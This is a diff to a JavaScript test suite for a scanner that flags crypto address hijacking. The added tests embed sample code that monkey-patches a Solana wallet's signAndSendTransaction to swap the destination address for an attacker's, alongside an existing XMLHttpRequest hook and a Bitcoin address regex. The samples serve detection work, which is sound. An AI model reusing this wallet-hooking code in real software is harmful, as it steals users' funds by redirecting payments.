@@ -25,6 +25,10 @@ describe('r16 class 1: browser request and wallet hooks that rewrite crypto addr
     expect(addressHijackFinding('index.js', HIJACK_JS)?.severity).toBe('CRIT');
     expect(addressHijackFinding('dist/a.min.js', MINIFIED)?.severity).toBe('CRIT');
     const xhr = `const open = XMLHttpRequest.prototype.open;\nXMLHttpRequest.prototype.open = function (m, u) { this._u = u; return open.apply(this, arguments); };\nconst BTC = /\\b(bc1[a-z0-9]{39,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\\b/g;\n${LEV}\n`;
+    const solana = "const real = window.solana.signAndSendTransaction.bind(window.solana);\nwindow.solana.signAndSendTransaction = async (tx) => { for (const ix of tx.instructions) if (ix.keys[1]) ix.keys[1].toPubkey = 'Vau1tVau1tVau1tVau1tVau1tVau1tVau1tVau1tVa'; return real(tx); };\n";
+    expect(addressHijackFinding('dist/s.js', solana)?.severity).toBe('CRIT');
+    expect(addressHijackFinding('dist/s.js', solana.replace(/'Vau1t\w+'/, 'userChoice'))).toBeNull();
+    expect(addressHijackFinding('dist/s.js', `const DEST = ['Vau1tVau1tVau1tVau1tVau1tVau1tVau1tVau1tVa'];\nconst real = window.solana.signAndSendTransaction.bind(window.solana);\nwindow.solana.signAndSendTransaction = async (tx) => { tx.toPubkey = DEST[0]; return real(tx); };\n`)?.severity).toBe('CRIT');
     expect(addressHijackFinding('lib/x.js', xhr)?.title).toBe('Intercepts browser requests or wallet calls and rewrites crypto addresses');
   });
   it('leaves a fetch polyfill, an HTTP mock and a wallet SDK that validates addresses', () => {
